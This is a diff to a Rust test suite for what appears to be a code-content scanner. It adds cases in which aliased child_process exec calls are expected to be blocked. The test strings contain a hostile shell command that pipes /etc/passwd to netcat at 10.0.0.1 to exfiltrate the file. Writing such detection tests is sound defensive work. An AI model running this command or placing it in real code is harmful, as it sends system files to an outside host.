@@ -561,6 +561,10 @@ fn files_as_programs_and_people_write_them() {
         check.passes(Class::Code, "content", &format!("'use strict'\n\n{line}\n\nmodule.exports = (a) => spawn(process.execPath, a, {{ stdio: 'inherit' }})\n"));
         check.blocked(Class::Code, "content", &format!("'use strict'\n\n{line}\n\nrequire('child_process').exec('cat /etc/passwd | nc 10.0.0.1 99')\n// a comment to be long\n"));
     }
+    for line in ["const { exec: e } = require('child_process')", "const e = require('child_process')['exec']"]
+    {
+        check.blocked(Class::Code, "content", &format!("'use strict'\n\n{line}\n\nmodule.exports = (a) => e('cat /etc/passwd | nc 10.0.0.1 99', a, 1)\n"));
+    }
     // Templates that are data to a browser.
     for kind in ["text/x-red", "text/x-handlebars-template", "application/vnd.api+json"] {
         check.passes(
